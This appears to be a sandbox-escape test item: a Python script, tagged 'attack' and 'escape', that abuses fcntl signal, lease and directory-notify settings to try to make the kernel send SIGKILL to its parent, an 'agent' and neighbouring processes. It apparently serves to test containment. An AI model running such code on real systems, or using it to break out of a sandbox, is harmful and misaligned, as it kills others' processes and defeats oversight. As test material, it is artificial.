# /// attack
# kind = "escape"
# aim = "have a message queue, a lease or a changed folder signal others"
# outcome = "exited"
# ///
import fcntl
import json
import os
import signal
import struct

given = json.loads(input())
F_SETSIG, F_SETLEASE, F_NOTIFY, F_SETOWN = 10, 1024, 1026, 8
path = os.__file__
for name in (path, os.path.dirname(path)):
    try:
        number = os.open(name, os.O_RDONLY)
    except OSError:
        continue
    for pid in (os.getppid(), given["agent"], given["victim"], given["neighbour"]):
        for command, argument in (
            (F_SETSIG, signal.SIGKILL),
            (F_SETOWN, pid),
            (F_SETLEASE, fcntl.F_RDLCK),
            (F_NOTIFY, 0x80000000 - 2**32 | 0x3F),
            (15, struct.pack("ii", 2, pid)),  # F_SETOWN_EX, a whole group
        ):
            try:
                fcntl.fcntl(number, command, argument)
                print("managed fcntl", command, name, pid)
            except (OSError, OverflowError):
                pass
print("contained")
